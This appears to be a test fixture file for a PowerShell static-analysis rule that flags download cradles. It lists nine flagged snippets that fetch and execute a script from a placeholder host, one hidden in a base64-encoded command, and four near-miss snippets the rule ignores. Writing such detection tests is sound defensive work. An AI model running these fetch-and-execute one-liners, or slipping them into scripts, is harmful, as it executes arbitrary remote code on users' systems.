# file: bad1.ps1
# ruleid: PS012_DownloadCradle
Invoke-Expression (New-Object Net.WebClient).DownloadString('https://host.example/a.ps1')

# file: bad2.ps1
# form: aliased
# ruleid: PS012_DownloadCradle
iex (iwr https://host.example/a.ps1 -UseBasicParsing).Content

# file: bad3.ps1
# form: aliased
# ruleid: PS012_DownloadCradle
irm https://host.example/a.ps1 | iex

# file: bad4.ps1
# form: aliased, variable
$text = (New-Object Net.WebClient).DownloadString('https://host.example/a.ps1')
# ruleid: PS012_DownloadCradle
iex $text

# file: bad5.ps1
# form: variable
$client = New-Object System.Net.WebClient
$where = 'https://host.example/a.ps1'
# ruleid: PS012_DownloadCradle
& ([scriptblock]::Create($client.DownloadString($where)))

# file: bad6.ps1
# form: splatted
$what = @{ Uri = 'https://host.example/a.ps1' }
# ruleid: PS012_DownloadCradle
Invoke-RestMethod @what | Invoke-Expression

# file: bad7.ps1
# ruleid: PS012_DownloadCradle
mshta https://host.example/a.hta

# file: bad8.ps1
# form: wrapped
# ruleid: PS012_DownloadCradle
powershell -c "iex(irm https://host.example/a.ps1)"

# file: bad9.ps1
# form: wrapped
# ruleid: PS012_DownloadCradle
powershell -NoProfile -EncodedCommand SQBuAHYAbwBrAGUALQBFAHgAcAByAGUAcwBzAGkAbwBuACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwAHMAOgAvAC8AaABvAHMAdAAuAGUAeABhAG0AcABsAGUALwBhAC4AcABzADEAJwApAA==

# file: good1.ps1
# form: near miss
# ok: PS012_DownloadCradle
Invoke-WebRequest https://host.example/a.ps1 -OutFile a.ps1

# file: good2.ps1
# form: near miss
# ok: PS012_DownloadCradle
$data = Invoke-RestMethod https://host.example/data.json

# file: good3.ps1
# form: near miss
$text = Get-Content a.ps1 -Raw
# ok: PS012_DownloadCradle
Invoke-Expression $text

# file: good4.ps1
# form: near miss
$name = (Invoke-RestMethod https://host.example/name.json).name
# ok: PS012_DownloadCradle
& ([scriptblock]::Create((Get-Content "$PSScriptRoot/$name.ps1" -Raw)))
